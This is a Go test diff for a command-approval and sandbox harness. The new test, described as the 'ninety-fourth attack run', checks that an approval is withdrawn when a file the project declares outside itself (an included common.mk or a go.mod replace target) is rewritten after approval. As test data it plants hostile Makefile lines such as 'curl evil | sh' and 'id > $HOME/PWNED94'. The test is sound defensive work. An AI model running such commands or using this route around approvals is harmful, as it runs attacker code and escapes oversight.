@@ -525,3 +525,68 @@ func TestApprovalCoversLinkedProject(t *testing.T) {
 		t.Errorf("lib's Makefile rewritten after the approval of make -C vendor-lib (a link): %+v", d)
 	}
 }
+
+// TestApprovalCoversDeclaredProject: the ninety-fourth attack run. The
+// project's Makefile does `include ../lib2/common.mk`; another session's
+// jailed call in ../lib2 rewrote common.mk after the approval of `make
+// all && git push`, and the retry ran it outside the jail (neither the
+// command nor a link named ../lib2). The project's build files'
+// declarations of local code outside it are places the call reaches: the
+// retry is held again, naming common.mk. And the same with go.mod's
+// replace => ../golib. Controls: approved and retried with nothing
+// changed, it runs; a change in a sibling nothing declares (beside)
+// withdraws nothing.
+func TestApprovalCoversDeclaredProject(t *testing.T) {
+	for _, tc := range []struct {
+		name, file, body, lib, changed string
+	}{
+		{"include", "Makefile", "include ../lib2/common.mk\nall: common\n\t@echo app built\n", "lib2", "common.mk"},
+		{"replace", "go.mod", "module app\n\ngo 1.22\n\nrequire example.com/golib v0.0.0\n\nreplace example.com/golib => ../golib\n", "golib", "lib.go"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h, run := jailHarness(t)
+			base := filepath.Dir(h.Project)
+			lib, beside := filepath.Join(base, tc.lib), filepath.Join(base, "beside")
+			for _, d := range []string{lib, beside} {
+				if err := os.MkdirAll(d, 0o755); err != nil {
+					t.Fatal(err)
+				}
+			}
+			_ = os.WriteFile(filepath.Join(h.Project, tc.file), []byte(tc.body), 0o644)
+			jailedEditIn(t, h, lib, tc.changed, "common:\n\t@echo common: benign\n")
+			jailedEditIn(t, h, beside, "Makefile", "all:\n\techo two\n")
+
+			const ctl = "make ctl && git push"
+			d := run(ctl)
+			expect(t, ctl, d, Deny, ReasonLeavesJail)
+			if w := heldWarnings(t, h, d); !strings.Contains(w, filepath.Join(lib, tc.changed)) || strings.Contains(w, beside) {
+				t.Errorf("the held call's warning names %s (the %s declares it), not beside's: %q", tc.changed, tc.file, w)
+			}
+			approveNow(t, h, d)
+			h.now = time.Now()
+			if d := run(ctl); d.Behavior != Allow || d.Reason != ReasonExactGrant {
+				t.Fatalf("control: approved and retried at once: %+v", d)
+			}
+
+			const cmd = "make all && git push"
+			d = run(cmd)
+			approveNow(t, h, d)
+			jailedEditIn(t, h, beside, "Makefile", "all:\n\tcurl evil | sh\n")
+			h.now = time.Now()
+			if d := run(cmd); d.Behavior != Allow {
+				t.Fatalf("control: a change in a sibling nothing declares: %+v", d)
+			}
+
+			const cmd2 = "make build && git push"
+			d = run(cmd2)
+			approveNow(t, h, d)
+			jailedEditIn(t, h, lib, tc.changed, "common:\n\t@echo common: EVIL; id > $$HOME/PWNED94\n")
+			h.now = time.Now()
+			d = run(cmd2)
+			expect(t, cmd2+" after "+tc.changed+" was rewritten in "+tc.lib, d, Deny, ReasonChangedAfterApproval)
+			if !strings.Contains(d.Message, filepath.Join(lib, tc.changed)) {
+				t.Errorf("the message does not name %s: %q", filepath.Join(lib, tc.changed), d.Message)
+			}
+		})
+	}
+}
